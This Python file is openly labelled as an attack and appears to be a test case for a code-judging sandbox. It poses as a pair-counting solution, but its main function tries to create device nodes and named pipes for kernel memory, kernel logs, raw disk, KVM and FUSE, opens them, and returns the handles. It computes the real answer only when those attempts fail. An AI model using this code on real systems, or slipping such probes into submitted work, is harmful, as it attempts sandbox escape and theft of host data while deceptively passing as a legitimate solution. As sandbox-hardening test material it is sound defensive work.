# /// attack
# aim = "Makes device nodes and a named pipe, opens devices of the machine, and answers with what it could read of them."
# outcome = ["AC"]
# naive = "file"
# ///

import os
import stat


def count_slowly(numbers, target):
    n = len(numbers)
    return sum(numbers[i] + numbers[j] == target for i in range(n) for j in range(i + 1, n))


DEVICES = {
    "mem": (1, 1),
    "kmem": (1, 2),
    "kmsg": (1, 11),
    "disk": (8, 0),
    "kvm": (10, 232),
    "fuse": (10, 229),
}


def pair_count(numbers, target):
    found = []
    for name, numbers_of in DEVICES.items():
        for folder in ("/tmp", "/dev", "/dev/shm", "."):
            path = os.path.join(folder, "device-" + name)
            try:
                os.mknod(
                    path, stat.S_IFBLK if name == "disk" else stat.S_IFCHR, os.makedev(*numbers_of)
                )
                found.append(os.open(path, os.O_RDONLY))
            except (OSError, AttributeError):
                pass
            try:
                os.mkfifo(path + "-pipe")
            except (OSError, AttributeError):
                pass
        try:
            found.append(os.open("/dev/" + name, os.O_RDONLY))
        except OSError:
            continue
    return found or count_slowly(numbers, target)
